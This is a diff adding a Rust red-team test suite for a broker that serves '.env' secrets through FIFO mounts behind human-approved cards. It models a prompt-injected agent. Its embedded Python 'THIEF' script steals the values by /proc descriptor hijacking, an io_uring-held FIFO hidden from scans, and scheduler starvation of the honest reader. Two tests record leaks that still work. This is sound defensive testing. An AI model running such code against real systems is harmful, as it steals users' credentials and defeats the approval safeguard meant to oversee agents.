@@ -1,0 +1,342 @@
+//! Red team of issue 22, second round (`.env` FIFO mounts, after the first round's fixes): a
+//! prompt-injected agent with the human's uid, a shell and `/proc`, trying to read a mount's
+//! values while the human approves an honest reader's card. A held attack is a passing test;
+//! one that still works is kept `#[ignore = "LEAK: ..."]` (it fails today).
+
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use crate::harness::{Home, contains, text, wait_output};
+use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
+
+/// The agent's side. Finds the honest reader holding the mount read-only (pid and descriptor
+/// `N`), then, by `mode` (words joined by `+`):
+/// - `uring`: opens `/proc/READER/fd/N`, registers that descriptor in an io_uring instance
+///   (`IORING_REGISTER_FILES`) and closes it: the FIFO is held only by the ring, and
+///   `/proc/THIEF/fd` shows `anon_inode:[io_uring]`; it then reads through the ring
+///   (`IORING_OP_READ` on the fixed file), non-blocking, over and over;
+/// - `starve`: pins the reader to one CPU and sets it `SCHED_IDLE` (what the same uid may do
+///   to its own processes: the reader is neither stopped nor traced, it just does not run
+///   while anything else wants that CPU), and spins on that CPU;
+/// - without `uring`: watches the served FIFO's modification time through
+///   `stat(/proc/READER/fd/N)` (no descriptor: invisible), and at the write opens
+///   `/proc/READER/fd/N` and drains it at once.
+///
+/// Touches `argv[3]` once in position (the test approves only then). Prints what it read on
+/// stdout (the test only searches it, never shows it).
+const THIEF: &str = r#"
+import os, sys, time, ctypes, mmap, struct
+path, mode, ready = sys.argv[1:4]
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = fdn = None; t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
+                        if int(fl.split()[1], 8) & 3 == 0:
+                            pid, fdn = int(p), f
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+time.sleep(0.3)
+src = f"/proc/{pid}/fd/{fdn}"
+data = b""
+if "uring" in mode:
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    params = ctypes.create_string_buffer(120)
+    ring = libc.syscall(425, 4, params)
+    assert ring >= 0, ctypes.get_errno()
+    sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
+    sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
+    cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
+    sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
+    cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
+    sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+    fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
+    arr = (ctypes.c_int * 1)(fd)
+    assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
+    os.close(fd)  # from now on only the ring holds the FIFO: /proc/ME/fd shows anon_inode:[io_uring]
+    buf = ctypes.create_string_buffer(1 << 16)
+    def read_once():
+        tail = struct.unpack_from("I", sqr, sq_off[1])[0]
+        mask = struct.unpack_from("I", sqr, sq_off[2])[0]
+        i = tail & mask
+        sqe = bytearray(64)
+        struct.pack_into("BBHiQQII", sqe, 0, 22, 1, 0, 0, 0, ctypes.addressof(buf), len(buf), 0)
+        sqes[i * 64:(i + 1) * 64] = bytes(sqe)
+        struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
+        struct.pack_into("I", sqr, sq_off[1], tail + 1)
+        libc.syscall(426, ring, 1, 1, 1, None, 0)
+        while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
+            libc.syscall(426, ring, 0, 1, 1, None, 0)
+        head = struct.unpack_from("I", cqr, cq_off[0])[0]
+        cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
+        _, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
+        struct.pack_into("I", cqr, cq_off[0], head + 1)
+        return buf.raw[:res] if res > 0 else res
+else:
+    m0 = os.stat(src).st_mtime_ns
+if "starve" in mode:
+    cpu = sorted(os.sched_getaffinity(0))[-1]
+    os.sched_setaffinity(0, {cpu})
+    os.sched_setaffinity(pid, {cpu})
+    os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
+open(ready, "w").close()
+t0 = time.time(); last = None
+while time.time() - t0 < 30:
+    if "uring" in mode:
+        r = read_once()
+        if isinstance(r, bytes):
+            data += r; last = time.time()
+        elif (last and time.time() - last > 0.3) or not os.path.exists(f"/proc/{pid}"):
+            break
+    else:
+        try:
+            moved = os.stat(src).st_mtime_ns != m0
+            fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK) if moved else None
+        except OSError:
+            break  # the reader is gone: nothing was written
+        if fd is not None:
+            try:
+                while True:
+                    b = os.read(fd, 1 << 20)
+                    if not b:
+                        break
+                    data += b
+            except BlockingIOError:
+                pass
+            os.close(fd)
+            break
+sys.stdout.buffer.write(data)
+"#;
+
+/// An honest program that loads `.env` and prints only how many bytes it read.
+const HONEST: &str = "import sys\nsys.stdout.write(str(len(open('.env').read())))\n";
+
+/// Runs the thief in `mode` against the honest reader, approves the reader's card once the
+/// thief is in position: how many values the thief read, what the honest reader printed, the
+/// audit.
+fn steal(mode: &str, reader: &str) -> (usize, String, String) {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let env_file = p.env_file();
+    let ready = p.tmp.path().join("thief-ready");
+    let thief = Command::new("python3")
+        .args([
+            "-c",
+            THIEF,
+            env_file.to_str().unwrap(),
+            mode,
+            ready.to_str().unwrap(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    let reader = p.reader(&["python3", "-c", reader], &[]);
+    let card = wait_card(&h);
+    assert!(card.to_string().contains("python3"));
+    let t0 = std::time::Instant::now();
+    while !ready.exists() {
+        assert!(
+            t0.elapsed() < Duration::from_secs(30),
+            "the thief never got ready"
+        );
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    approve_card(&h, &card, &[]);
+    let stolen = wait_output(thief, Duration::from_secs(60));
+    let honest = finished(reader);
+    assert!(
+        stolen.status.success(),
+        "thief failed: {}",
+        text(&stolen.stderr)
+    );
+    let leaked = vals
+        .iter()
+        .filter(|(_, v)| contains(&stolen.stdout, v.split(' ').next_back().unwrap_or(v)))
+        .count();
+    (leaked, text(&honest.stdout), h.audit_text())
+}
+
+/// An event-loop reader: opens `.env`, then waits in `epoll_wait` (as libuv, Go's netpoller,
+/// tokio and asyncio wait for their sockets) for 2 s before it reads.
+const LOOP: &str = "import select, sys\nf = open('.env')\nselect.epoll().poll(2)\nsys.stdout.write(str(len(f.read())))\n";
+
+/// The agent pins the approved reader (blocked in its `read`) to one CPU, sets it
+/// `SCHED_IDLE` and spins on that CPU: the reader is neither stopped nor traced, yet would not
+/// run for as long as the agent likes once the text is in the pipe, and the agent drains it
+/// through `/proc/READER/fd/N` (open, read, close in microseconds: the broker's look at the
+/// holders never saw it; the audit said `mount_read`, `opened_during_write: []`). Held since
+/// this round: right before the write (and while the text waits) the broker refuses a reader
+/// thread under `SCHED_IDLE`/`SCHED_BATCH`, at a positive nice (or autogroup nice), or
+/// pinned to fewer CPUs than the broker's.
+#[test]
+fn a_reader_kept_off_the_cpu_is_never_written_to() {
+    let (leaked, honest, audit) = steal("starve", HONEST);
+    assert_eq!(leaked, 0, "the thief read values; {audit}");
+    assert_eq!(honest, "0", "{audit}");
+    assert!(audit.contains("mount_not_written"), "{audit}");
+    assert!(audit.contains("SCHED_IDLE"), "{audit}");
+}
+
+/// As above, with the thief holding the served FIFO only through an io_uring instance
+/// (registered file, its own descriptor closed): invisible to the broker's scan of
+/// `/proc/*/fd`. Held: the starved reader is refused before the write.
+#[test]
+fn a_starved_reader_with_a_ring_held_fifo_is_never_written_to() {
+    let (leaked, honest, audit) = steal("uring+starve", HONEST);
+    assert_eq!(leaked, 0, "the thief read values; {audit}");
+    assert_eq!(honest, "0", "{audit}");
+    assert!(audit.contains("mount_not_written"), "{audit}");
+}
+
+/// An honest event-loop reader: it opens `.env`, then sleeps in `epoll_wait` (its loop) for
+/// 2 s before reading. The broker's "waiting for input" test (any thread in a pipe read or
+/// in a poll/select/epoll, from `wchan`) said yes, so the text was written at once and
+/// waited 2 s in the pipe; the agent, spinning on `stat(/proc/READER/fd/N)` (no descriptor),
+/// saw the write move the FIFO's mtime, opened, drained and closed in microseconds, unseen by
+/// the broker's look at the holders (audit: `mount_read`, `opened_during_write: []`; the
+/// honest reader read zero bytes). Held since this round: an epoll wait counts only when an
+/// epoll instance of the reader watches the FIFO (`tfd:` in its fdinfo), a poll/select wait
+/// not at all; the text is written once the reader sits in its read.
+#[test]
+fn an_event_loop_readers_pipe_is_not_drained_by_a_thief() {
+    let (leaked, honest, audit) = steal("plain", LOOP);
+    assert_eq!(
+        leaked, 0,
+        "the thief read values (honest read {honest}); {audit}"
+    );
+    assert_ne!(honest, "0", "{audit}");
+    assert!(audit.contains("\"mount_read\""), "{audit}");
+}
+
+/// A reader one of whose threads sleeps reading another pipe (a worker reading a child's
+/// output, a self-pipe) while its main thread has opened `.env` and reads it 2 s later.
+const OTHER_PIPE: &str = "import os, sys, threading, time\nf = open('.env')\nr, w = os.pipe()\nthreading.Thread(target=os.read, args=(r, 1), daemon=True).start()\ntime.sleep(2)\nsys.stdout.write(str(len(f.read())))\n";
+
+/// The reader has a thread blocked in a read of *another* pipe: `wchan` says `pipe_read`,
+/// and which pipe is not told (`/proc/PID/task/TID/syscall` would say, but needs ptrace
+/// access that Yama denies the broker). The text is written at once and waits 2 s; the
+/// agent's `/proc/READER/fd/N` opener drains it unseen.
+#[test]
+#[ignore = "LEAK: a reader with any thread blocked reading another pipe counts as waiting for the FIFO; the text waits in the pipe and a /proc/READER/fd/N opener drains it unseen"]
+fn a_reader_reading_another_pipe_is_not_taken_for_waiting() {
+    let (leaked, honest, audit) = steal("plain", OTHER_PIPE);
+    assert_eq!(
+        leaked, 0,
+        "the thief read values (honest read {honest}); {audit}"
+    );
+}
+
+/// The thief holds the served FIFO only through an io_uring instance (registered file, its
+/// own descriptor closed) from before the approval: `/proc/THIEF/fd` shows only
+/// `anon_inode:[io_uring]`, which the holders scan skips, so no check before, during or
+/// after the write sees a second holder, and the audit names no one. Not fixable by looking
+/// harder at `/proc`: a ring can itself be registered and its descriptor closed.
+#[test]
+#[ignore = "LEAK: a FIFO held only by an io_uring registered file is invisible to the /proc/*/fd scan; whenever the text waits in the pipe the ring reads it"]
+fn a_ring_held_fifo_is_seen_as_a_second_holder() {
+    let (leaked, honest, audit) = steal("uring", OTHER_PIPE);
+    assert_eq!(
+        leaked, 0,
+        "the thief read values (honest read {honest}); {audit}"
+    );
+}
+
+/// The reader forks right after its `open` (the child inherits the descriptor, as a `vfork`,
+/// a `clone` with a shared table, or an fd passed by `SCM_RIGHTS` would give a second
+/// process): both read. Held: two holders of the FIFO get nothing (refused at once, or at
+/// the check before the write if the card came first).
+#[test]
+fn a_reader_that_forks_after_its_open_gets_nothing() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let code = "import os, sys, time\nf = open('.env')\npid = os.fork()\ntime.sleep(0.5)\nsys.stdout.write(f.read())\nif pid:\n    os.waitpid(pid, 0)\n";
+    let mut reader = p.reader(&["python3", "-c", code], &[]);
+    let t0 = std::time::Instant::now();
+    while reader.try_wait().unwrap().is_none() {
+        assert!(t0.elapsed() < Duration::from_secs(30), "the reader hangs");
+        if let Some(card) = crate::mount::pending(&h).pop() {
+            approve_card(&h, &card, &[]);
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let o = finished(reader);
+    for (_, v) in &vals {
+        let word = v.split(' ').next_back().unwrap_or(v);
+        assert!(!contains(&o.stdout, word), "a forked reader read a value");
+    }
+    let audit = h.audit_text();
+    assert!(
+        audit.contains("more than one process") || audit.contains("other than the approved reader"),
+        "{audit}"
+    );
+}
+
+/// The reader the card names (python, pinned) opens `.env` without `O_CLOEXEC`, then, while
+/// the card waits, execs `cat` on that descriptor: same pid, same start time, same FIFO
+/// held read-only. Held since this round: right before the write the broker checks that
+/// `/proc/PID/exe` is still the executable pinned on the card.
+#[test]
+fn a_reader_that_execs_another_program_after_the_card_gets_nothing() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let code = "import os, time\nfd = os.open('.env', os.O_RDONLY)\nos.dup2(fd, 0)\ntime.sleep(1)\nos.execv('/bin/cat', ['cat'])\n";
+    let reader = p.reader(&["python3", "-c", code], &[]);
+    let card = wait_card(&h);
+    assert!(card.to_string().contains("python3"), "{card}");
+    std::thread::sleep(Duration::from_millis(1500));
+    approve_card(&h, &card, &[]);
+    let o = finished(reader);
+    for (_, v) in &vals {
+        let word = v.split(' ').next_back().unwrap_or(v);
+        assert!(
+            !contains(&o.stdout, word),
+            "the exec'd program read a value"
+        );
+    }
+    let audit = h.audit_text();
+    assert!(audit.contains("another executable"), "{audit}");
+}
+
+/// An honest reader that waits for the FIFO through epoll, as Go's `os.ReadFile` does (the
+/// netpoller): it registers the descriptor in an epoll instance and sleeps in `epoll_wait`.
+/// Still served: the epoll instance watches the FIFO (`tfd:` in its fdinfo).
+#[test]
+fn a_reader_waiting_in_epoll_on_the_fifo_is_served() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let code = "import os, select, sys\nfd = os.open('.env', os.O_RDONLY | os.O_NONBLOCK)\ne = select.epoll()\ne.register(fd, select.EPOLLIN)\ndata = b''\nwhile True:\n    e.poll(20)\n    try:\n        b = os.read(fd, 1 << 16)\n    except BlockingIOError:\n        continue\n    if not b:\n        break\n    data += b\nsys.stdout.write(str(len(data)))\n";
+    let reader = p.reader(&["python3", "-c", code], &[]);
+    let card = wait_card(&h);
+    approve_card(&h, &card, &[]);
+    let o = finished(reader);
+    let audit = h.audit_text();
+    assert!(audit.contains("\"mount_read\""), "{audit}");
+    assert_ne!(text(&o.stdout), "0", "{audit}");
+}
